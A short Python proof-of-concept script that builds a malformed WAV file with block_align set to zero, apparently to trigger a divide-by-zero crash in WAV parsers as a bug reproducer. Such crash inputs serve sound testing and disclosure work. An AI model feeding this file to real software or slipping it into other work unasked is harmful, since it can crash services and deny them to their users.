"""Writes the PoC: a PCM WAV file whose fmt chunk gives a block size (block_align) of 0. The
number of frames is the data size divided by the block size."""

import struct
import sys

fmt = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 0, 8)  # PCM, mono, 8 kHz, block_align 0, 8-bit
chunks = b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", 8) + bytes(8)
data = b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WAVE" + chunks
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
